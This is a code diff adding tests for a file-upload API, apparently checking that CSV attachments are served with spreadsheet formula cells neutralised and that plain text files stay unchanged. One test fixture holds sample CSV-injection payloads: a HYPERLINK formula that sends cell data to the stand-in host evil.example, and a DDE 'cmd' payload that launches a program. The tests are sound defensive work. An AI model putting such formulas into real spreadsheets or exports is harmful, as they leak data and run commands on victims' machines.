@@ -12,6 +12,7 @@ import type { App } from '../../src/app';
 import { attachments, auditLog, files } from '../../src/db/schema/index';
 import type { SignedInCtx } from '../../src/lib/ctx';
 import { removeUnattached } from '../../src/services/files/cleanup';
+import { neutraliseCsv } from '../../src/services/files/csv';
 import { attach, attachmentsOf } from '../../src/services/files/public';
 import { bearer, createAccount, createTestApp, loginAs, type TestAccount } from '../helpers/app';
 
@@ -210,7 +211,7 @@ describe('POST /api/files', () => {
       const got = await download(file!.id, as.alice);
       expect(got.statusCode, f.label).toBe(200);
       expect(got.rawPayload.equals(content), f.label).toBe(true);
-      expect(got.headers['content-type'], f.label).toBe(f.type === 'text/plain' ? 'text/plain; charset=utf-8' : f.type);
+      expect(got.headers['content-type'], f.label).toBe(f.type !== 'text/plain' ? f.type : f.filename.endsWith('.csv') ? 'text/csv; charset=utf-8' : 'text/plain; charset=utf-8');
     }
   });
 
@@ -447,5 +448,58 @@ describe('removing uploads never attached', () => {
     for (const id of [old.id, oldAlone.id]) expect((await download(id, as.alice)).json()).toEqual(notFound);
     expect((await download(recentTwin.id, as.alice)).statusCode).toBe(200);
     expect((await download(oldAttached.id, as.staff)).statusCode).toBe(200);
+  });
+});
+
+// ---- a .csv opened in a spreadsheet --------------------------------------------------------------
+
+describe('a .csv attachment', () => {
+  it('reaches staff as a download whose formula cells are text: opening it runs none', async () => {
+    const csv = `企业名称,产值,备注\n=HYPERLINK("http://evil.example/?"&A1,"点击"),1200,-5\n云溪智造,+1+cmd|' /C calc'!A0,@SUM(1+1)\n"=1+2","-2+3",${unique()}\n`;
+    const file = await uploadOne(Buffer.from(csv), '产值.csv');
+    expect(file.type).toBe('text/plain');
+    await attachTo(alice, alice.id, [file.id]);
+    const got = await download(file.id, as.staff);
+    expect(got.statusCode).toBe(200);
+    expect(got.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(got.headers['content-disposition']).toMatch(/^attachment; /);
+    expect(got.headers['x-content-type-options']).toBe('nosniff');
+    const lines = got.body.split('\n');
+    expect(lines[0]).toBe('企业名称,产值,备注');
+    expect(lines[1]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"点击"),1200,-5`);
+    expect(lines[2]).toBe(`云溪智造,'+1+cmd|' /C calc'!A0,'@SUM(1+1)`);
+    expect(lines[3]!.startsWith(`"'=1+2","'-2+3",`)).toBe(true);
+    expect(Number(got.headers['content-length'])).toBe(Buffer.byteLength(got.body));
+    // The stored bytes stay as uploaded (the content's hash names them).
+    expect(fs.readFileSync(path.join(uploadsDir, 'private', sha(Buffer.from(csv)))).toString()).toBe(csv);
+  });
+
+  it('neutraliseCsv: every cell a spreadsheet would run, whichever separator it splits on, and nothing else', () => {
+    const cases: [string, string][] = [
+      ['a,b\r\nc,d\r\n', 'a,b\r\nc,d\r\n'],
+      ['=1+1', "'=1+1"],
+      ['\uFEFF=1+1,x', "\uFEFF'=1+1,x"],
+      ['x;=1+1;y', "x;'=1+1;y"],
+      ['x\t@cmd\ty', "x\t'@cmd\ty"],
+      ['  =1+1', "  '=1+1"],
+      ['"\t=1","\r=2"', `"'\t=1","'\r=2"`],
+      ['"a ""quoted"", =x",=y', `"a ""quoted"", =x",'=y`],
+      ['"=a\nb",c\n', `"'=a\nb",c\n`],
+      ['＝1+1', "'＝1+1"],
+      ['-5,+3,-1.5e3, -2 ', '-5,+3,-1.5e3, -2 '],
+      ['-5-1', "'-5-1"],
+      ['a,,b,', 'a,,b,'],
+      ['"unclosed =x', '"unclosed =x'],
+      ['', ''],
+    ];
+    for (const [input, output] of cases) expect(neutraliseCsv(input), JSON.stringify(input)).toBe(output);
+  });
+
+  it('a .txt is served as it was uploaded', async () => {
+    const content = Buffer.from(`=1+1\n${unique()}\n`);
+    const file = await uploadOne(content, 'notes.txt');
+    const got = await download(file.id, as.alice);
+    expect(got.headers['content-type']).toBe('text/plain; charset=utf-8');
+    expect(got.rawPayload.equals(content)).toBe(true);
   });
 });
